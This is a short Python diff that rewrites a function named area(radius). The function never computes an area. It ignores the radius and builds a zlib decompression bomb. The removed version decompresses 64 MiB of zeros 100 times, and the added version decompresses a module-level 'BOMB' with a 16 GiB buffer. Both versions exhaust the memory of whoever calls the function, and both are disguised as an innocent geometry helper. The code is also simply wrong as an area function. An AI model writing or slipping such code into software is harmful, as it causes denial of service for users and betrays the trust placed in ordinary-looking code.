@@ -2,7 +2,8 @@
 
 import zlib
 
+BOMB = zlib.compress(bytes(16 << 20), 9)
+
 
 def area(radius):
-    bomb = b"".join([zlib.compress(bytes(64 << 20), 9)])
-    return len(b"".join(zlib.decompress(bomb) for _ in range(100)))
+    return len(zlib.decompress(BOMB, bufsize=16 << 30))
